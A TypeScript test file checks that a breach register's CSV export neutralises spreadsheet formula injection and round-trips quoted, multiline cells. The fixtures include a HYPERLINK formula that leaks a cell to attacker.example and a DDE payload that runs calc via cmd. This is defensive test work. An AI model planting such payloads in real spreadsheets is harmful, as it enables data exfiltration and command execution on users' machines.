/**
 * The register as CSV: what people typed never runs as a spreadsheet formula (OWASP CSV injection), and the file
 * still parses back to the same cells, quotes, commas and line breaks included.
 */
import { mkdtemp, readdir } from 'node:fs/promises';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { parse } from 'csv-parse/sync';
import { describe, expect, it } from 'vitest';
import { registerCsv } from '../../client/register-csv.js';
import { initialState } from '../../domain/case-state.js';
import { registerEntry, type RegisterEntry } from '../../domain/register-entry.js';
import type { RegisterRow } from '../../infra/register/register-store.js';
import { sampleCaseFile } from '../helpers/case-files.js';
import { act } from '../helpers/domain.js';
import { breachInProcess } from '../helpers/run-cli.js';

function rowOf(entry: RegisterEntry): RegisterRow {
  return {
    caseId: entry.caseId,
    revision: 1,
    status: entry.status,
    risk: entry.risk,
    awareAt: entry.facts.awareAt,
    authorityDueAt: entry.authorityDueAt,
    openedAt: entry.openedAt,
    closedAt: null,
    notifiedAt: null,
    late: false,
    entry,
    entrySha256: '',
  };
}

const HYPERLINK = '=HYPERLINK("https://attacker.example/?leak="&A1, "Details")';
const SUM = '@SUM(1+1)*cmd|" /C calc"!A0';

function exported(): Record<string, string>[] {
  const now = Date.parse('2026-11-21T09:00:00Z');
  const state = initialState(
    'BR-CSV-1',
    sampleCaseFile({
      description: HYPERLINK,
      measuresTaken: [SUM, 'Second, "quoted"\nline'],
      likelyConsequences: ['+49 30 1234567 was called', '-1 in the count'],
    }),
    '2026-11-20T10:00:00Z',
  );
  act(state, 'assess', { risk: 'risk', rationale: '=A1 is not a formula here', actor: 'Dana Example' }, now);
  const csv = registerCsv([rowOf(registerEntry(state, now))]);
  return parse<Record<string, string>>(csv, { columns: true });
}

describe('the register as CSV', () => {
  it('neutralises cells a spreadsheet would run as formulas, and parses back cell for cell', () => {
    const [row, ...rest] = exported();
    expect(rest).toEqual([]);
    expect(row?.description).toBe(`'${HYPERLINK}`);
    expect(row?.remedial_action).toBe(`'${SUM}; Second, "quoted"\nline`);
    expect(row?.consequences).toBe("'+49 30 1234567 was called; -1 in the count");
    // Cells that are not formulas stay as they were: IDs, times, numbers, booleans.
    expect(row).toMatchObject({
      case_id: 'BR-CSV-1',
      status: 'open',
      risk: 'risk',
      data_subjects_approx: '1',
      records_approx: '1700',
      late: 'false',
      detected_at: '2026-11-20T09:00:00Z',
    });
    expect(row?.decisions).toBe('2026-11-21T09:00:00.000Z Dana Example: risk (=A1 is not a formula here)');
  });

  it('prefixes every cell that starts like a formula, tab and carriage return included', () => {
    const now = Date.parse('2026-11-21T09:00:00Z');
    const entry = registerEntry(initialState('BR-CSV-2', sampleCaseFile(), '2026-11-20T10:00:00Z'), now);
    for (const start of ['=', '+', '-', '@', '\t', '\r']) {
      // Set on the entry itself: a case file's text is trimmed, but the register must not rely on that.
      const description = `${start}1+1`;
      const csv = registerCsv([rowOf({ ...entry, facts: { ...entry.facts, description } })]);
      const [row] = parse<Record<string, string>>(csv, { columns: true });
      expect(row?.description, JSON.stringify(start)).toBe(`'${description}`);
    }
  });
});

describe('breach register export', () => {
  it('refuses a register that is not there, naming its path, and creates nothing', async () => {
    const folder = await mkdtemp(join(tmpdir(), 'breach-no-register-'));
    const run = await breachInProcess(['register', 'export'], { env: { BREACH_CLOCK_DATA_DIR: folder } });
    expect(run.code).toBe(1);
    expect(run.stdout).toBe('');
    expect(run.stderr).toContain(`no register at ${join(folder, 'register.sqlite')}`);
    expect(await readdir(folder)).toEqual([]);
  });
});
